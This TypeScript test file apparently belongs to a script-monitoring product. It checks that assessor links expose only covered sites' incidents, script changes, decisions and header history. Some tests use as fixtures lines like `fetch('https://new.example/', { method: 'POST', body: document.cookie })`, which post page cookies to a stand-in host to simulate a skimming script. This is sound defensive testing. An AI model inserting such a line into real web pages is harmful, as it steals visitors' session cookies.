// What an assessor reads of decisions and of incidents on several sites: nothing later, and nothing of sites that the link does not cover.
import { randomUUID } from 'node:crypto'
import { changeVerdicts } from '@tillwatch/contract/lists'
import { addChannelSchema, createAssessorLinkSchema } from '@tillwatch/contract/shapes'
import type { Discovery } from '@tillwatch/core/alerts'
import type { Capture } from '@tillwatch/core/capture'
import { sql } from 'kysely'
import { expect, it } from 'vitest'
import { type AlertContext, addChannel, resolveIncident } from '#features/alerts/index.ts'
import { openIncidents } from '#features/alerts/open-incidents.ts'
import { createAssessorLink, getAssessment, openAssessorLink, readAlerts, readChanges, readSample } from '#features/assessors/index.ts'
import { listHeaders } from '#features/headers/index.ts'
import { claimSite } from '#features/sites/index.ts'
import { testKey } from '../../support/evidence-key.ts'
import { keys } from '../alerts/channels.ts'
import { comparedWith, comparePage, shop } from '../comparisons/compared-page.ts'
import { answer, decide } from '../headers/answered-page.ts'
import { context, decideOn, external, list, owner, pageId, scan, siteId, test } from '../inventory/watched-page.ts'

comparePage()

const whole = () => ({ ...context(), evidenceKey: testKey(), evidenceMonths: 13 })
async function reader(siteIds: string[] | null) {
  const body = createAssessorLinkSchema.parse({ assessor: 'Example QSA', siteIds })
  const { url } = await createAssessorLink({ db: test.database.db, siteOrigin: () => 'https://tillwatch.example' }, owner, body)
  return openAssessorLink(whole(), new URL(url).hash.slice(1), '192.0.2.9')
}
const soon = () => new Date(Date.now() + 60_000).toISOString()

/** One incident of a vendor on each of the sites, as grave as is said; its id. */
async function incidentOn(sites: Record<string, Discovery['verdict']>): Promise<string> {
  const found = Object.entries(sites).map(
    ([site, verdict]): Discovery => ({
      ...{
        source: 'change' as const,
        kind: 'script-changed',
        verdict,
        siteId: site,
        pageId: null,
        scanId: null,
        changeId: randomUUID(),
      },
      subject: { code: 'named' as const, given: { name: `script of ${site}` } },
      reasons: [],
      script: { identity: `x ${site}`, isThirdParty: true, vendor: 'Tags', content: site },
    }),
  )
  const [id] = await test.database.db.transaction().execute((trx) => openIncidents(trx, owner.accountId, found))
  return id ?? ''
}
const alertContext = (): AlertContext => ({
  ...{ db: test.database.db, keyring: keys, siteOrigin: () => 'https://tillwatch.example', mayBePlain: () => false },
  mails: { enqueue: async () => {} },
})

it('tells of an incident on several sites only what is of those that the link covers', async () => {
  await addChannel(
    alertContext(),
    owner,
    addChannelSchema.parse({ kind: 'webhook', name: 'Secret client', target: 'https://hooks.example/x' }),
  )
  const other = await claimSite(context(), owner, { subscriptionId: null, url: 'https://secret.example/pay' })
  const id = await incidentOn({ [other.id]: 'malicious', [siteId]: 'capability' })
  await test.database.db
    .updateTable('incident_items')
    .set({ found_at: new Date(Date.now() - 60_000) })
    .where('site_id', '=', other.id)
    .execute()
  await resolveIncident(alertContext(), owner, id, {
    itemCount: 2,
    verdict: 'malicious',
    resolution: 'rolled-back',
    note: 'Taken out at secret.example.',
  })
  const limited = await readAlerts(whole(), await reader([siteId]), siteId, { limit: 50, to: soon() })
  expect(limited.total).toBe(1)
  const [told] = limited.incidents
  expect(told).toMatchObject({ isWhole: false, items: [{ siteId }], secondsTo: { delivered: null } })
  expect(told?.incident).toMatchObject({
    ...{ verdict: 'capability', itemCount: 1, sites: ['shop.example'], note: null },
    ...{ state: 'resolved', resolution: 'rolled-back', openedAt: told?.items[0]?.foundAt },
  })
  expect(told?.timeLine.map(({ event, channel }) => [event, channel])).toEqual([
    ['discovered', null],
    ['acknowledged', null],
    ['decided', null],
  ])
  const sampled = await readSample(whole(), await reader([siteId]), { of: 'alerts', size: 5, to: soon() })
  expect(sampled.drawn).toMatchObject([{ siteId, state: 'capability', duty: null }])
  for (const text of [limited, sampled].map((answer) => JSON.stringify(answer))) {
    expect(text).not.toMatch(/secret/i)
    expect(text).not.toContain(other.id)
  }
  const all = (await readAlerts(whole(), await reader(null), siteId, { limit: 50, to: soon() })).incidents[0]
  expect(all).toMatchObject({ isWhole: true, incident: { verdict: 'malicious', note: 'Taken out at secret.example.' } })
  expect(all?.items).toHaveLength(2)
  expect(all?.timeLine.map(({ channel }) => channel)).toContain('Secret client')
})

it('counts all that is found on the sites of the link, also beyond what is listed', async () => {
  const other = await claimSite(context(), owner, { subscriptionId: null, url: 'https://other.example/pay' })
  const id = await incidentOn({ [other.id]: 'malicious', [siteId]: 'capability' })
  await sql`insert into incident_items (id, account_id, incident_id, source, kind, verdict, site_id, subject, reasons, effect, print)
    select gen_random_uuid(), account_id, incident_id, source, kind, 'malicious', ${other.id}, subject, reasons, effect, 'more ' || n
    from incident_items cross join generate_series(1, 300) n where incident_id = ${id} and site_id = ${siteId}`.execute(test.database.db)
  const { incidents } = await readAlerts(whole(), await reader([siteId]), siteId, { limit: 50, to: soon() })
  expect(incidents).toMatchObject([{ isWhole: false, incident: { itemCount: 1, verdict: 'capability' }, items: [{ siteId }] }])
})

it('reads every site of an account, however many it has', async () => {
  const { accountId } = owner
  await sql`insert into sites (id, account_id, host, url) select gen_random_uuid(), ${accountId}, 'a' || n || '.example', 'https://a' || n || '.example/'
    from generate_series(1, 120) n`.execute(test.database.db)
  const { sites } = await getAssessment(whole(), await reader(null))
  expect(sites).toHaveLength(121)
  expect(sites.map(({ host }) => host)).toContain('shop.example')
})

it('says of a drawn script whose duty it is', async () => {
  await scan([external('https://tags.example/t.js', 'b')])
  await test.database.db.updateTable('page_scripts').set({ scope: 'payment-provider' }).where('page_id', '=', pageId).execute()
  const { drawn } = await readSample(whole(), await reader(null), { of: 'scripts', size: 5, to: soon() })
  expect(drawn).toMatchObject([{ state: 'undecided', duty: { isMerchants: false, scope: 'payment-provider' } }])
})

it('shows with a change the first decision on its script since then, up to the end of the period', async () => {
  await comparedWith(shop)
  await comparedWith(`${shop}\nfetch('https://new.example/', { method: 'POST', body: document.cookie })`)
  const found = new Date().toISOString()
  await new Promise((done) => setTimeout(done, 5))
  await decideOn({ covers: 'scripts', scriptIds: (await list()).scripts.map(({ id }) => id) })
  const read = async (to?: string) => readChanges(whole(), await reader(null), siteId, { limit: 20, ...(to && { to }) })
  const [after, before] = [await read(soon()), await read(found)]
  const ids = after.comparisons.flatMap(({ changes }) => changes.map(({ id }) => id))
  expect(ids.length).toBeGreaterThan(0)
  expect(Object.values(after.decisions).map(({ verdict }) => verdict)).toContain('approve')
  expect(before.comparisons.flatMap(({ changes }) => changes.map(({ id }) => id))).toEqual(ids)
  expect(before.decisions).toEqual({})
})

it('counts all changes of the period by verdict and by decision, whichever part of them is shown', async () => {
  const began = new Date().toISOString()
  const posting = (at: number) => `${shop}\nfetch('https://new-${at}.example/', { method: 'POST', body: document.cookie })`
  const headers = (value: string) => (capture: Capture) => {
    for (const each of capture.documents) each.headers = [['x-frame-options', value]]
  }
  await comparedWith(shop)
  await comparedWith(posting(1))
  const decideAll = async (verdict: 'approve' | 'reject') => {
    await new Promise((done) => setTimeout(done, 5))
    await decideOn({ covers: 'scripts', scriptIds: (await list()).scripts.map(({ id }) => id) }, { verdict })
    await new Promise((done) => setTimeout(done, 5))
  }
  await decideAll('approve')
  await comparedWith(posting(2), { change: headers('SAMEORIGIN') })
  await decideAll('reject')
  await comparedWith(posting(3), { change: headers('SAMEORIGIN') })
  const read = async (query: { after?: string; verdict?: 'malicious'; from?: string; to?: string } = {}) =>
    readChanges(whole(), await reader(null), siteId, { limit: 1, from: began, to: soon(), ...query })
  const parts = [await read()]
  for (let next = parts[0]?.next; next; next = parts.at(-1)?.next) parts.push(await read({ after: next }))
  expect(parts.length).toBeGreaterThan(2)
  const [first] = parts
  for (const { totals, total } of parts) expect({ totals, total }).toEqual({ totals: first?.totals, total: parts.length })
  expect((await read({ verdict: 'malicious' })).totals).toEqual(first?.totals)

  const all = parts.flatMap(({ comparisons, decisions }) =>
    comparisons.flatMap(({ changes }) => changes.map((change) => ({ ...change, decided: decisions[change.id]?.verdict }))),
  )
  const count = (is: (change: (typeof all)[number]) => boolean) =>
    all.filter((change) => change.verdict !== 'volatile' && is(change)).length
  const counted = {
    approve: count(({ decided }) => decided === 'approve'),
    reject: count(({ decided }) => decided === 'reject'),
    withdraw: 0,
    undecided: count(({ script, decided }) => script !== null && decided === undefined),
    'no-script': count(({ script }) => script === null),
  }
  expect([counted.approve, counted.reject, counted.undecided, counted['no-script']].every((some) => some > 0)).toBe(true)
  expect(first?.totals).toEqual({
    verdicts: Object.fromEntries(changeVerdicts.map((verdict) => [verdict, all.filter((change) => change.verdict === verdict).length])),
    decisions: counted,
    headers: count(({ kind }) => kind === 'header'),
    unknown: parts.filter(({ comparisons }) => comparisons.some(({ notCompared }) => notCompared.length > 0)).length,
  })
})

it('shows the headers of a page as they stood at a moment, with the decisions and changes of before', async () => {
  const now = async () => {
    await new Promise((done) => setTimeout(done, 5))
    return new Date().toISOString()
  }
  const before = await now()
  const first = await answer({ 'strict-transport-security': 'max-age=1000' })
  const undecided = await now()
  await decide('approve', 'all')
  const decided = await now()
  await answer({ 'strict-transport-security': 'max-age=5' })
  const read = async (at?: string) => listHeaders(whole(), await reader([siteId]), pageId, { ...(at && { at }) })
  const told = async (at?: string) => {
    const { observed, parts, history, total, changes } = await read(at)
    const shown = parts.filter(({ header }) => header === 'strict-transport-security')
    expect([total, changes]).toEqual([history.length, history.filter(({ isFirst }) => !isFirst).length])
    return [observed !== null, shown.map(({ value, state, decision }) => [value, state, decision?.verdict]), history.length]
  }
  expect(await told(before)).toEqual([false, [], 0])
  expect(await told(undecided)).toEqual([true, [['max-age=1000', 'new', undefined]], 1])
  expect(await told(decided)).toEqual([true, [['max-age=1000', 'authorized', 'approve']], 1])
  expect(await told()).toEqual([true, [['max-age=5', 'changed', 'approve']], 2])
  expect((await read(decided)).observed?.scanId).toBe(first)
})
